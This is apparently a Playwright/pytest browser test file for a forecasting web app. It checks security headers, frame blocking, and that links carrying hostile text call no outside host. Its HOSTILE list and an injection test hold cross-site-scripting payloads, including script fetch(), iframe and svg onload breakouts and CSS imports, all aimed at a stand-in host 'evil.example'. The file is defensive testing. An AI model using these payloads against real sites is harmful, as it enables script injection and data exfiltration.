"""The door in a real browser: headers of every answer, no frame of another site, and no link that calls another host."""

from __future__ import annotations

import urllib.error
import urllib.request
from collections.abc import Iterator
from urllib.parse import quote, urlsplit

import pytest

pytest.importorskip("playwright.sync_api", reason="playwright is not installed; it comes with the dev extra")

from playwright.sync_api import Browser, Page, expect

from forecast.ui.frame.server import HEADERS
from scenarios.reading import library
from scenarios.unsaved import Unsaved, pack
from tests.browser.serving import PATIENCE, refusals, settled

pytestmark = pytest.mark.browser

EVIL = "http://evil.example"

HOSTILE = (
    f"![x]({EVIL}/a.png)",
    f"[Open the paper]({EVIL})",
    f"<img src={EVIL}/a.png>",
    f"<{EVIL}>",
    f"{EVIL}/a www.evil.example somebody@evil.example",
    f"<script>fetch('{EVIL}')</script>",
    f"<style>@import '{EVIL}/a.css'; body {{ background: url({EVIL}/b.png) }}</style>",
    f'"><iframe src="{EVIL}"></iframe><svg onload="fetch(`{EVIL}`)">',
)


@pytest.fixture
def window(browser: Browser) -> Iterator[Page]:
    """Return a window that may be refused something."""
    found = browser.new_page(viewport={"width": 1280, "height": 900})
    found.set_default_timeout(PATIENCE * 1000)
    yield found
    found.close()


def answered(address: str, method: str = "GET") -> tuple[int, dict[str, str]]:
    """Return status and headers of an answer, names in lower case."""
    try:
        with urllib.request.urlopen(
            urllib.request.Request(address, method=method), timeout=PATIENCE
        ) as answer:
            return answer.status, {k.lower(): v for k, v in answer.headers.items()}
    except urllib.error.HTTPError as error:
        return error.code, {k.lower(): v for k, v in error.headers.items()}


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("", 200), ("data", 200), ("favicon.png", 200), ("_stcore/health", 200), ("_stcore/host-config", 200),
        ("media/none.csv", 404), ("_stcore/metrics", 404), ("_stcore/agent/openapi.json", 404),
    ],
)  # fmt: skip
def test_every_answer_has_the_headers(served: str, path: str, status: int) -> None:
    found, headers = answered(f"{served}/{path}")
    assert found == status
    for name, value in HEADERS.items():
        assert headers[name.lower()] == value
    assert "default-src 'none'" in headers["content-security-policy"]


def links() -> dict[str, str]:
    """Return addresses of a page that somebody else made, each with text that would call another host."""
    scenario = library()["low-births"]
    told = {
        f"title {n}": scenario.model_copy(
            update={"title": f"Fewer births {text}"[:200], "note": text, "caveats": (text,)}
        )
        for n, text in enumerate(HOSTILE)
    }
    written = {name: f"scenarios?scenario={quote(pack(Unsaved(s)))}" for name, s in told.items()}
    return written | {
        "area": f"?area={quote(HOSTILE[0])}",
        "scenario": f"scenarios?scenario={quote(HOSTILE[1])}",
        "unknown": f"places?{quote(HOSTILE[0])}={quote(HOSTILE[2])}&register={quote(HOSTILE[0])}",
        "not packed": f"scenarios?scenario=~{quote(HOSTILE[5])}",
    }


@pytest.mark.parametrize("name", links())
def test_a_hostile_link_calls_no_other_host(page: Page, served: str, name: str) -> None:
    asked: set[str] = set()
    page.context.on("request", lambda request: asked.add(urlsplit(request.url).hostname or ""))
    page.goto(f"{served}/{links()[name]}")
    settled(page)
    assert asked - {""} == {"127.0.0.1"}
    leads_to = "[...document.querySelectorAll('a[href], img[src], iframe')].map(e => e.href || e.src)"
    assert not [one for one in page.evaluate(leads_to) if "evil" in (urlsplit(one).hostname or "")]


def test_a_picture_or_script_that_got_in_all_the_same_would_not_be_loaded(window: Page, served: str) -> None:
    asked: list[str] = []
    window.route(f"{EVIL}/**", lambda route: (asked.append(route.request.url), route.abort()))
    window.goto(served)
    settled(window)
    said = refusals(window)
    window.evaluate(
        """evil => { const add = (tag, given) => document.body.append(Object.assign(document.createElement(tag), given));
        add('img', {src: `${evil}/a.png`}); add('script', {src: `${evil}/a.js`}); add('script', {textContent: 'window.ran = 1'});
        add('iframe', {src: evil}); add('link', {rel: 'stylesheet', href: `${evil}/a.css`}); fetch(evil).catch(() => 0); }""",
        EVIL,
    )
    for directive in ("img-src", "script-src", "connect-src", "style-src"):
        expect_said(window, said, directive)
    assert window.evaluate("window.ran") is None
    assert asked == []


def expect_said(page: Page, said: list[str], directive: str) -> None:
    """Wait until the browser said that it refused something."""
    for _ in range(PATIENCE * 10):
        if any(directive in line for line in said):
            return
        page.wait_for_timeout(100)
    raise AssertionError(f"{directive} in {said}")


@pytest.mark.parametrize("path", ["", "data"])
def test_no_other_site_can_show_it_in_a_frame(window: Page, served: str, path: str) -> None:
    outside = served.replace("127.0.0.1", "localhost")
    window.route("**/outside.html", lambda route: route.fulfill(
        content_type="text/html", body=f"<h1>Elsewhere</h1><iframe src='{served}/{path}'></iframe>"
    ))  # fmt: skip
    window.goto(f"{outside}/outside.html")
    expect(window.get_by_role("heading", name="Elsewhere")).to_be_visible()
    # What the browser shows in the place of a page that it may not show.
    assert window.frames[1].url.startswith("chrome-error:")
